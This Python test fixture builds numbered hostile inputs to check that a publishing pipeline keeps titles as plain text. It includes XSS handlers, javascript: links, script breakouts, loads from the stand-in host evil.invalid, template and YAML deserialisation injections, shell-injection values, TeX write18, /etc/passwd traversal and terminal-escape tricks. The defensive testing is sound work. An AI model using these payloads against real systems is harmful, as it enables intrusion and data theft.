"""Hostile input: texts that would do something if any door took them for more than text.

Each case has a number; what it would run is ``pwned(number)``, what it would load comes from
``evil.invalid``, and what it would write is a file called ``pwned``. The forms follow the OWASP
"Cross Site Scripting Prevention" and "Filter Evasion" sheets, Unicode Technical Report 36, and the
syntaxes that a title meets on its way: Markdown, YAML, Jinja, Quarto's shortcodes, Lua, TeX, BibTeX,
JSON, XML, shells and terminals.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

_HANDLERS = (
    ("onerror", '<img src=x {h}="{c}">'),
    ("onerror", "<img src=x {h}={c}>"),
    ("onerror", "<IMG SRC=x {H}='{c}'>"),
    ("onerror", "<img/src=x/{h}={c}>"),
    ("onerror", '<img src="x`" {h}="{c}" `>'),
    ("onerror", '<video><source {h}="{c}"></video>'),
    ("onerror", '<audio src=x {h}="{c}"></audio>'),
    ("onerror", '<object data=x {h}="{c}"></object>'),
    ("onload", '<svg {h}="{c}"></svg>'),
    ("onload", "<svg/{h}={c}>"),
    ("onload", '<body {h}="{c}">'),
    ("onload", '<iframe {h}="{c}"></iframe>'),
    ("onload", '<style {h}="{c}"></style>'),
    ("ontoggle", '<details open {h}="{c}">x</details>'),
    ("onfocus", '<input autofocus {h}="{c}">'),
    ("onfocus", '<select autofocus {h}="{c}"></select>'),
    ("onfocus", '<textarea autofocus {h}="{c}"></textarea>'),
    ("onfocus", '<a href="#" autofocus tabindex=0 {h}="{c}">x</a>'),
    ("onbegin", '<svg><animate {h}="{c}" attributeName="x" dur="1s"/></svg>'),
    ("onstart", '<marquee {h}="{c}">x</marquee>'),
    ("onanimationstart", '<p style="animation: a 1s" {h}="{c}">x</p>'),
    ("onpointerenter", '<p {h}="{c}">x</p>'),
    ("onclick", '<button {h}="{c}">x</button>'),
    ("onmouseover", '<math><mi {h}="{c}">x</mi></math>'),
    ("onscroll", '<div {h}="{c}">x</div>'),
    ("onerror", '[x](y){{{h}="{c}"}}'),
    ("onerror", '![x](y){{{h}="{c}"}}'),
    ("onclick", '[x]{{{h}="{c}"}}'),
    ("onclick", '`x`{{{h}="{c}"}}'),
    ("onclick", '## x {{{h}="{c}"}}'),
    ("onclick", '::: {{{h}="{c}"}}\nx\n:::'),
)
_SCHEMES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java&#x73;cript:{c}",
    "javascript&colon;{c}",
    "java\tscript:{c}",
    "&#1;javascript:{c}",
    "vbscript:{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
)
_CARRIERS = (
    "[x]({s})",
    "[x](<{s}>)",
    '<a href="{s}">x</a>',
    "![x]({s})",
    '<iframe src="{s}"></iframe>',
    '<form action="{s}"><button>x</button></form>',
    '<button formaction="{s}">x</button>',
    '<object data="{s}"></object>',
    '<embed src="{s}">',
    '<svg><a xlink:href="{s}"><text>x</text></a></svg>',
    '<math href="{s}">x</math>',
    '<meta http-equiv="refresh" content="0;url={s}">',
    '<base href="{s}">',
)
_BREAKOUTS = (
    "<script>{c}</script>",
    "<SCRIPT>{c}</SCRIPT>",
    "<script >{c}</script >",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "</script><script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</style><script>{c}</script>",
    "--><script>{c}</script>",
    "]]><script>{c}</script>",
    '"><script>{c}</script>',
    "'><script>{c}</script>",
    "\"'--></script></style></title><img src=x onerror={c}>",
    "<!--<script>{c}</script>",
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    "<svg><script>{c}</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",
    "<template><script>{c}</script></template>",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{c}",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "%3Cscript%3E{c}%3C/script%3E",
    "＜script＞{c}＜/script＞",
    "<script src=https://evil.invalid/a.js></script>",
    "<script type=module>import('https://evil.invalid/a.js')</script>",
    "<link rel=stylesheet href=https://evil.invalid/a.css>",
    "<style>@import url(https://evil.invalid/a.css);</style>",
    '<p style="background:url(https://evil.invalid/a.png)">x</p>',
    "<img src=https://evil.invalid/a.png>",
    "<img srcset='https://evil.invalid/a.png 1x'>",
    "<video poster=https://evil.invalid/a.png></video>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "![x](https://evil.invalid/a.png)",
    "```{{=html}}\n<script>{c}</script>\n```",
    "`<img src=x onerror={c}>`{{=html}}",
    "````{{=html}}\n</main><script>{c}</script>\n````",
    "x\n\n<script>\n\n{c}\n\n</script>",
)
_SYNTAX = (
    "{{{{ 7 * 191 }}}}",
    "{{% set x = 1 %}}{{{{ x }}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "${{7*191}}",
    "#{{7*191}}",
    "<%= 7*191 %>",
    "{{{{< include /etc/passwd >}}}}",
    "{{{{< include ../../../../../../etc/passwd >}}}}",
    "{{{{< env PATH >}}}}",
    "{{{{< meta author >}}}}",
    "{{{{< video https://evil.invalid/a.mp4 >}}}}",
    "---\ntitle: pwned\n---",
    "...\n---\npwned: true\n---",
    '"\npwned: true\n"',
    "'\npwned: true",
    "x: y: [",
    "!!python/object/apply:os.system ['touch pwned']",
    "&a [*a, *a]",
    "*undefined",
    "%YAML 9.9",
    "@nobody2000",
    "[@nobody2000]{{.x}}",
    "::: {{.x}}",
    ":::",
    "```",
    "~~~",
    "$$",
    "<!--",
    "[^1]",
    "[^1]: x",
    "[x]: https://evil.invalid/",
    "| a | b |\n|---|---|\n",
    "- [x] {c}",
    "# {{.unnumbered}}",
    "\\input{{/etc/passwd}}",
    "\\immediate\\write18{{touch pwned}}",
    "$\\href{{javascript:{c}}}{{x}}$",
    "$\\unicode{{x3c}}script$",
    "}} @comment{{x}}",
    "}},\n}}\n@article{{pwned, title={{x}}}}",
    "{{\\{{",
    "\\",
    "{{unbalanced",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned #",
    "| touch pwned",
    "&& touch pwned",
    "'; touch pwned; '",
    "\"; os.execute('touch pwned') --",
    "]] os.execute('touch pwned') --[[",
    "!touch pwned",
    "%%bash\ntouch pwned",
    "__import__('os').system('touch pwned')",
    '=HYPERLINK("https://evil.invalid/","x")',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "CON",
    "-rf",
    "--help",
)
_CHARACTERS = (
    "\u202egnp.exe",
    "\u2066x\u2069\u2067y",
    "a\u200bb\u200cc\u200dd\ufeff",
    "\u061c\u200e\u200f",
    "e" + "\u0301" * 60,
    "\u0e49" * 40,
    "ﷺ﷽",
    "𝓢𝓬𝓻𝓲𝓹𝓽",
    "аdmin",
    "\ufdd0\ufffe\uffff",
    "\ud800 lone",
    "\U000e0041\U000e0042",
    "\x00nul",
    "\x08\x08\x7f",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.invalid/\x1b\\x\x1b]8;;\x1b\\",
    "\x9b2J",
    "\x0bvertical\x0cfeed",
    "\u2028line\u2029paragraph\x85next",
    "\r\ncarriage",
    "tab\tbed",
    " leading and trailing ",
    "",
    " ",
    "." * 3,
    "x" * 5000,
    "(" * 12,
    "[" * 9,
    ">" * 25,
    "*" * 40,
    "`" * 101,
    "{" * 12,
    "<" * 60,
    "&" * 100,
    "가" * 2000,
)


@dataclass(frozen=True)
class Case:
    """A hostile text: its number and group."""

    number: int
    group: str
    text: str

    @property
    def call(self) -> str:
        return f"pwned({self.number})"


def _texts() -> Iterator[tuple[str, str]]:
    for handler, form in _HANDLERS:
        yield "handler", form.replace("{h}", handler).replace("{H}", handler.upper())
    for number, (carrier, scheme) in enumerate(product(_CARRIERS, _SCHEMES)):
        # Each carrier with every scheme would say the same over and over: every third, and all links.
        if number % 3 == 0 or carrier.startswith(("[", "<a")):
            yield "address", carrier.replace("{s}", scheme)
    for text in _BREAKOUTS:
        yield "markup", text
    for text in _SYNTAX:
        yield "syntax", text
    for text in _CHARACTERS:
        yield "characters", text.replace("{", "{{")


CASES = tuple(
    Case(
        number, group, text.replace("{c}", f"pwned({number})").replace("{{", "{").replace("}}", "}")
    )
    for number, (group, text) in enumerate(_texts(), 1)
)
